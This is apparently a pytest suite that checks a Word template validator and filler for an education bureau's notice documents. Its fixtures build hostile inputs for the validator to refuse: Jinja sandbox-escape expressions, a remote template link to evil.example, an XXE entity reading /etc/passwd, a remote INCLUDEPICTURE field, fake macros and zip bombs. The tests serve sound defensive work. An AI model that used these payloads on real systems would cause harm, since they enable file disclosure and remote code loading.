"""A bureau's own template: what is refused, with its place and reason, and how it is filled in."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
from docx import Document

from casework.documents.catalogue import KINDS
from casework.documents.templates import BadTemplate, check_template, fill_template
from casework.documents.templating import package
from tests.unit.documents import words_of
from tests.unit.documents.samples import frame_for

FRAME = frame_for(KINDS["supervision_notice"])
Change = Callable[[dict[str, bytes]], None]


def word(*paragraphs: str, rows: tuple[tuple[str, ...], ...] = (), footer: str = "") -> bytes:
    """A Word file as an office would make it."""
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if rows:
        table = document.add_table(rows=len(rows), cols=len(rows[0]))
        for row, texts in zip(table.rows, rows, strict=True):
            for cell, text in zip(row.cells, texts, strict=True):
                cell.text = text
    if footer:
        document.sections[0].footer.paragraphs[0].text = footer
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def changed(data: bytes, change: Change) -> bytes:
    """The file with its parts changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    change(entries)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def refused(data: bytes, known: list[str] | None = None) -> list[tuple[str, str]]:
    """Place and reason of every fault."""
    with pytest.raises(BadTemplate) as caught:
        check_template(data, known)
    return [(str(fault.place), str(fault.reason)) for fault in caught.value.faults]


GOOD = word(
    "{{ office }}：",
    "关于{{ 事由 }}的整改通知，限{{ due_on }}前完成。",
    "{%p if 备注 is defined %}",
    "备注：{{ 备注 }}",
    "{%p endif %}",
    rows=(
        ("学校", "问题"),
        ("{%tr for row in schools %}", ""),
        ("{{ row.name }}", "{{ row.problem }}"),
        ("{%tr endfor %}", ""),
    ),
    footer="{{ number }}",
)


def test_a_good_template_tells_what_it_asks_for() -> None:
    assert check_template(GOOD) == {
        "事由": (),
        "due_on": (),
        "备注": (),
        "schools": ("name", "problem"),
    }


def test_it_is_filled_in_with_words_days_and_rows() -> None:
    values = {
        "事由": "校门<安全>&整治",
        "due_on": date(2026, 4, 1),
        "备注": "第一行\n第二行",
        "schools": [
            {"name": "一小", "problem": "𠮷田围墙😀"},
            {"name": "二小", "problem": "门锁"},
        ],
    }
    filled = fill_template(GOOD, values, FRAME, title="整改通知")
    words = words_of.document(filled)
    assert words[0] == "东山县教育局："
    assert words[1] == "关于校门<安全>&整治的整改通知，限2026年4月1日前完成。"
    assert "第二行" in words[2]
    assert words[3:] == ["学校", "问题", "一小", "𠮷田围墙", "二小", "门锁"]
    assert "东教督〔2026〕7号" in words_of.read(filled, "word/footer1.xml").decode()
    said = Document(io.BytesIO(filled)).core_properties
    assert (said.title, said.author, said.identifier) == (
        "整改通知",
        "东山县教育局",
        "2026-TF-000123",
    )


def test_the_same_values_give_the_same_bytes() -> None:
    values: dict[str, Any] = {"事由": "甲", "due_on": "即日", "备注": "", "schools": []}
    first = fill_template(GOOD, values, FRAME)
    assert first == fill_template(GOOD, values, FRAME)
    assert first != fill_template(GOOD, values | {"事由": "乙"}, FRAME)


def test_a_draft_of_it_says_so() -> None:
    values: dict[str, Any] = {"事由": "甲", "due_on": "即日", "备注": "", "schools": []}
    draft = frame_for(KINDS["supervision_notice"], draft=True)
    assert "未经签发，不得使用" in words_of.document(fill_template(GOOD, values, draft))[0]


def test_a_missing_value_is_named_and_never_an_empty_place() -> None:
    with pytest.raises(BadTemplate, match="事由"):
        fill_template(GOOD, {"due_on": "即日", "schools": []}, FRAME)


def test_names_that_do_not_exist_are_refused_with_their_place() -> None:
    data = word("第一段", "写着{{ 姓名 }}的一段", rows=(("甲", "乙"), ("{{ 学校 }}", "丙")))
    assert refused(data, ["事由"]) == [
        ("Paragraph 2: “写着{{ 姓名 }}的一段”", "There is no value named “姓名”."),
        ("Table 1, row 2: “{{ 学校 }}”", "There is no value named “学校”."),
    ]
    assert check_template(data, ["姓名", "学校"]) == {"姓名": (), "学校": ()}


def test_what_jinja_does_not_understand_is_refused_with_its_place() -> None:
    place, reason = refused(word("好的{{ a }}", "", "坏的{{ b | }}一段"))[0]
    assert place == "Paragraph 3: “坏的{{ b | }}一段”"
    assert reason.startswith("This is not understood")
    place, _ = refused(word("{% if a %}没有结束"))[0]
    assert place.startswith("Paragraph 1")


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("{{ range(10) }}", "only names, if and for"),
        ("{{ a.__class__ }}", "underscore"),
        ("{{ _a }}", "underscore"),
        ("{{ a|attr('x') }}", "no filter “attr”"),
        ("{{ a.format(b) }}", "only names, if and for"),
        ("{% import 'x' as y %}", "only names, if and for"),
        ("{% include 'x' %}", "only names, if and for"),
        ("{% set b = a %}{{ b }}", "only names, if and for"),
        ("{% macro m() %}{% endmacro %}{{ a }}", "only names, if and for"),
        ("{{ a * 99999999 }}", "only names, if and for"),
        (
            "{% for x in a %}{% for y in x %}{% for z in y %}{{ z }}{% endfor %}{% endfor %}"
            "{% endfor %}",
            "not stand inside another",
        ),
    ],
)
def test_what_could_run_or_hide_something_is_refused(text: str, reason: str) -> None:
    faults = refused(word("前言", text))
    assert any(reason in found for _, found in faults)
    assert all(place.startswith("Paragraph 2") for place, _ in faults)


def test_a_template_without_places_is_refused() -> None:
    assert "no place to fill in" in refused(word("只有文字"))[0][1]


def test_every_fault_is_told_at_once() -> None:
    assert len(refused(word("{{ a() }}", "{{ _b }}", "{{ c|attr('d') }}"))) == 3


def _macros(entries: dict[str, bytes]) -> None:
    entries["word/vbaProject.bin"] = b"MZ"


def _docm(entries: dict[str, bytes]) -> None:
    types = entries["[Content_Types].xml"]
    entries["[Content_Types].xml"] = types.replace(
        package.MAIN_TYPE.encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml"
    )


def _linked(entries: dict[str, bytes]) -> None:
    name = "word/_rels/document.xml.rels"
    link = (
        b'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
        b' TargetMode="External"/></Relationships>'
    )
    entries[name] = entries[name].replace(b"</Relationships>", link)


def _embedded(entries: dict[str, bytes]) -> None:
    entries["word/embeddings/oleObject1.bin"] = b"\xd0\xcf"


def _fetching(entries: dict[str, bytes]) -> None:
    field = b'<w:p><w:r><w:instrText> INCLUDEPICTURE "http://x/y.png" </w:instrText></w:r></w:p>'
    document = entries["word/document.xml"]
    entries["word/document.xml"] = document.replace(b"<w:body>", b"<w:body>" + field)


def _entities(entries: dict[str, bytes]) -> None:
    document = entries["word/document.xml"]
    entries["word/document.xml"] = document.replace(
        b"<w:document", b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document', 1
    )


def _bomb(entries: dict[str, bytes]) -> None:
    entries["word/media/big.bin"] = b"\0" * (package.MOST_UNPACKED + 1)


def _many(entries: dict[str, bytes]) -> None:
    entries.update({f"word/media/{n}.bin": b"" for n in range(package.MOST_ENTRIES)})


def _headless(entries: dict[str, bytes]) -> None:
    del entries["word/document.xml"]


def _broken(entries: dict[str, bytes]) -> None:
    entries["word/document.xml"] = b"<w:document"


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        (_macros, "macros"),
        (_docm, "macros"),
        (_linked, "http://evil.example/t.dotm"),
        (_embedded, "embedded programs"),
        (_fetching, "INCLUDEPICTURE"),
        (_entities, "definitions"),
        (_bomb, "larger than 50 MB"),
        (_many, "larger than 50 MB"),
        (_headless, "no Word document"),
        (_broken, "Word would not open"),
    ],
)
def test_a_file_that_is_more_than_a_document_is_refused(change: Change, reason: str) -> None:
    bad = changed(GOOD, change)
    assert any(reason in found for _, found in refused(bad))
    with pytest.raises(BadTemplate):
        fill_template(bad, {"事由": "甲", "due_on": "", "schools": []}, FRAME)


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04", b"%PDF-1.7", b"\xd0\xcf\x11\xe0"])
def test_another_kind_of_file_is_refused(data: bytes) -> None:
    assert refused(data) == [("The whole file", "This is no Word document (.docx).")]


def test_a_file_that_is_too_large_is_refused_unread() -> None:
    assert "larger than 5 MB" in refused(b"\0" * (package.MOST_BYTES + 1))[0][1]


def test_a_head_that_lies_about_its_size_does_not_fool_us() -> None:
    data = bytearray(
        changed(GOOD, lambda entries: entries.update({"word/zeros.xml": b"\0" * 9999}))
    )
    at = data.rfind(b"word/zeros.xml") - 46
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    assert "no Word document" in refused(bytes(data))[0][1]
